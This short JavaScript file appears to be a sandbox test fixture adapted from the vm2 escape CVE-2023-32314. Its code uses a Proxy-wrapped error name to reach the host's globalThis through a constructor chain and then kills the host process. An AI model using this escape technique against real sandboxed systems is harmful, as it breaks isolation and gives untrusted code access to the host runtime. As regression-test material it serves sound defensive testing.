// class: reach
// source: CVE-2023-32314 (vm2), on the way out
// expect: * | ok

export default {
  async attack(input, ctx) {
    const error = new Error()
    error.name = {
      toString: new Proxy(() => 'name', {
        apply(target, receiver, given) {
          const root = given.constructor.constructor('return globalThis')()
          if ('process' in root) root.process.exit(9)
          return 'Named'
        }
      })
    }
    throw error
  }
}
